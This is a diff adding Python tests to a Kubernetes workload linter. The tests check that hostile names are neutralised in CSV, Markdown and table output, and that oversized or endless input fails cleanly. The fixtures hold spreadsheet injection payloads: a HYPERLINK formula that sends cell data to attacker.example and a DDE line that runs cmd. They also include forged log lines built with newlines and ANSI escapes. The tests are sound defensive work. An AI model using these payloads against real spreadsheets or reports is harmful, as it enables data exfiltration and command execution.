@@ -912,3 +912,160 @@ def test_live_mode_without_kubectl_on_the_path_is_one_clear_line(tmp_path, monke
         assert err.startswith("kartalint: error: kubectl is not on the PATH: --kubectl runs your kubectl")
     code, _, err = run(capsys, "describe", "fleet.yaml", "-n", "ml")
     assert code == 2 and "-n go with --kubectl" in err
+
+
+# -- hostile inputs of the fleet summary (issue 45, items 6, 8, 10, 11 and 13) -----------------------
+
+FORMULAS = ['=HYPERLINK("http://attacker.example/?x="&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\tpadded", "\rreturned"]  # fmt: skip
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(tmp_path, monkeypatch, capsys):
+    """Item 6: a workload named like a formula is written with a leading ' (OWASP's advice) in the
+    summary's CSV, per workload and per role, and in the comparison's CSV; numbers stay numbers."""
+    monkeypatch.chdir(tmp_path)
+    objects = []
+    for i, name in enumerate(FORMULAS):
+        job = fixture_object(os.path.join(FIXTURES, "batch-job-v1", "running.yaml"))
+        job["metadata"].update(name=name, namespace=FORMULAS[(i + 1) % len(FORMULAS)], uid=f"u{i}")
+        objects.append(job)
+    (tmp_path / "fleet.yaml").write_text(as_list(objects))
+    for rows in ("workload", "role"):
+        code, out, err = run(capsys, "describe", "fleet.yaml", "--summary", "-f", "csv", "--rows", rows)
+        assert code == 0, err
+        records = list(csv.DictReader(io.StringIO(out, newline="")))
+        shown = ["'" + name.replace("\r", "\\r") for name in FORMULAS]  # the report writer escapes a CR inside a line
+        assert [r["name"] for r in records] == shown
+        assert [r["namespace"] for r in records] == [shown[(i + 1) % len(shown)] for i in range(6)]
+        for record in records:
+            assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in record.values())
+            assert record["gpus"] == "8" and record["cpuMillis"] == "16000"
+    for i, obj in enumerate(objects[:4]):  # (spaces around a key cell of the user's file are not part of it)
+        obj["metadata"]["namespace"] = FORMULAS[(i + 1) % 4]
+    (tmp_path / "fleet.yaml").write_text(as_list(objects[:4]))
+    with open("quota.csv", "w", encoding="utf-8", newline="") as handle:  # the user's file names them too
+        writer = csv.writer(handle)
+        writer.writerow(["namespace", "kind", "name", "gpus"])
+        for obj in objects[:4]:
+            writer.writerow(
+                [obj["metadata"]["namespace"], "Job", obj["metadata"]["name"], -3 if obj is objects[0] else 8]
+            )
+    code, out, _ = run(capsys, "describe", "fleet.yaml", "--summary", "--compare", "quota.csv", "-f", "csv")
+    assert code == 1
+    records = list(csv.DictReader(io.StringIO(out, newline="")))
+    assert [(r["scope"], r["namespace"], r["name"], r["summary"], r["file"]) for r in records] == [
+        ("row", "'" + FORMULAS[1], "'" + FORMULAS[0], "8", "-3"), ("total", "", "", "32", "21")]  # fmt: skip
+    from kartalint.report.spreadsheet import neutralised
+
+    assert [neutralised(v) for v in ("-3", "1.5", "-2e3", "=1+1", "-", "+", "@", "safe", "")] == [
+        "-3", "1.5", "-2e3", "'=1+1", "'-", "'+", "'@", "safe", ""]  # fmt: skip
+
+
+def _compare_file_error(tmp_path, text: str) -> tuple[int, str]:
+    """Run `describe --summary --compare bad.csv` in a process of its own (a hang is a failure, not
+    a stuck suite): its exit code and stderr."""
+    (tmp_path / "bad.csv").write_text(text)
+    (tmp_path / "fleet.yaml").write_text(
+        as_list([fixture_object(os.path.join(FIXTURES, "batch-job-v1", "running.yaml"))])
+    )
+    proc = subprocess.run([sys.executable, "-m", "kartalint", "describe", "fleet.yaml", "--summary", "--compare",
+                           "bad.csv"], cwd=tmp_path, capture_output=True, text=True, timeout=120)  # fmt: skip
+    return proc.returncode, proc.stderr
+
+
+@pytest.mark.parametrize(
+    "text, message",
+    [
+        ("name,gpus\ntrain-once,1e5000\n", "bad.csv:2: gpus '1e5000' is out of range (an exponent of at most 100)"),
+        ("name,gpus\ntrain-once,1e100000000\n", "bad.csv:2: gpus '1e100000000' is out of range"),
+        ("name,cpu\ntrain-once,1e5000m\n", "bad.csv:2: cpu '1e5000m' is not a Kubernetes quantity"),
+        (
+            "name,gpus\ntrain-once," + "9" * 5000 + "\n",
+            "bad.csv:2: gpus '9999999999999999999999999999999999999999'..."
+            " is not a number: 5000 characters (at most 64)",
+        ),
+        (",".join(f"c{i}" for i in range(100_000)) + ",gpus\n", "bad.csv:1: 100001 columns: a header of at most 1000"),
+        ("name,gpus,name\nx,1,y\n", "bad.csv:1: column 'name' appears twice"),
+    ],
+)
+def test_a_hostile_compare_file_is_a_clear_error_never_a_traceback_or_a_hang(tmp_path, text, message):
+    """Item 8: numbers and headers of the user's file are read with bounds: exit 2, file and line."""
+    code, err = _compare_file_error(tmp_path, text)
+    assert code == 2 and err.startswith(f"kartalint: error: {message}") and "Traceback" not in err, err
+
+
+def test_stdin_is_read_as_it_comes_never_copied_to_disk(tmp_path, monkeypatch, capsys, workloads):
+    """Item 10: `describe - --summary` reads standard input as it comes: nothing is written to a
+    temporary file (endless input cannot fill the disk, and there is no write to fail), and input
+    that never ends an object stops the reading with one clear line."""
+    import tempfile
+
+    monkeypatch.chdir(tmp_path)
+
+    def no_disk(*args, **kwargs):
+        raise AssertionError("standard input copied to a temporary file")
+
+    monkeypatch.setattr(tempfile, "TemporaryFile", no_disk)
+    monkeypatch.setattr(tempfile, "NamedTemporaryFile", no_disk)
+    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(json.dumps(
+        {"apiVersion": "v1", "kind": "List", "items": workloads[:20]}).encode())))  # fmt: skip
+    code, doc, err = summary_json(capsys, "-")
+    assert code == 0 and len(doc["rows"]) == 20, err
+    # a syntax error late in a stream: the full loader reads it again from the start (within max-file-size)
+    stream = "".join("---\n" + yaml.safe_dump(o) for o in workloads[:3]) + "---\nkey: [unclosed\n"
+    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(stream.encode())))
+    code, doc, err = summary_json(capsys, "-")
+    assert code == 1 and len(doc["rows"]) == 3 and "<stdin>:" in doc["unreadable"][0]["origin"], err
+
+    class Endless(io.RawIOBase):  # `yes | kartalint describe - --summary`
+        def readable(self):
+            return True
+
+        def readinto(self, buffer):
+            buffer[: len(buffer)] = b"y" * len(buffer)
+            return len(buffer)
+
+    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BufferedReader(Endless())))
+    code, _out, err = run(capsys, "describe", "-", "--summary")
+    assert code == 2 and "Traceback" not in err, err
+    assert re.search(r"<stdin>: no object ends within \d+ bytes .*nothing from here on is read", err)
+
+
+def test_unreadable_places_are_counted_and_only_the_first_ones_kept(tmp_path, monkeypatch, capsys):
+    """Item 11: a dump of 200,000 entries that are not objects (0.8 MB) is said in a bounded way and
+    held in bounded memory: the first 100 places are listed, the rest counted. Memory is measured
+    against the same run on 100 entries, in processes of their own."""
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "many.yaml").write_text("apiVersion: v1\nkind: List\nitems:\n" + "- 1\n" * 200_000)
+    (tmp_path / "few.yaml").write_text("apiVersion: v1\nkind: List\nitems:\n" + "- 1\n" * 100)
+    code, doc, err = summary_json(capsys, "many.yaml")
+    assert code == 2 and doc["unreadableCount"] == 200_000 and len(doc["unreadable"]) == 100
+    assert err.count("\n") == 101 and "and 199900 more places that could not be read" in err
+    script = ("import resource, sys; from kartalint.cli import main; main(['describe', sys.argv[1], '--summary', "
+              "'-f', 'json', '-o', 'out.json']); print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)")  # fmt: skip
+    peaks = {}
+    for name in ("few.yaml", "many.yaml"):
+        proc = subprocess.run([sys.executable, "-c", script, name], capture_output=True, text=True, timeout=600)
+        peaks[name] = int(proc.stdout.split()[-1]) / 1024  # MB
+    assert peaks["many.yaml"] - peaks["few.yaml"] < 50, peaks  # was 696 MB for 0.8 MB
+
+
+def test_line_breaks_in_values_never_start_a_line_of_the_tables(tmp_path, monkeypatch, capsys):
+    """Item 13: CR, LF and other controls in names, namespaces and keys are shown escaped in the
+    summary table, its Markdown, and the compare table: no forged line."""
+    monkeypatch.chdir(tmp_path)
+    job = fixture_object(os.path.join(FIXTURES, "batch-job-v1", "running.yaml"))
+    job["metadata"].update(name="evil\nkartalint: note: all clear", namespace="ns\r\x1b[2K")
+    (tmp_path / "fleet.yaml").write_text(as_list([job]))
+    with open("quota.csv", "w", encoding="utf-8", newline="") as handle:
+        csv.writer(handle).writerows([["name", "gpus"], ["evil\nkartalint: note: all clear", 1],
+                                      ["other\r\nTOTAL gpus 0 0", 2]])  # fmt: skip
+    outputs = [run(capsys, "describe", "fleet.yaml", "--summary", *more)[1]
+               for more in ([], ["--rows", "role"], ["-f", "markdown"], ["--compare", "quota.csv"],
+                            ["--compare", "quota.csv", "-f", "markdown"])]  # fmt: skip
+    for out in outputs:
+        lines = out.splitlines()
+        assert not any(line.startswith(("kartalint: note: all clear", "TOTAL gpus 0 0")) for line in lines), out
+        assert "\r" not in out and "\x1b" not in out
+        assert re.search(r"evil\\+nkartalint: note: all clear", out), out
+    assert "ns\\r\\x1b[2K" in outputs[0]
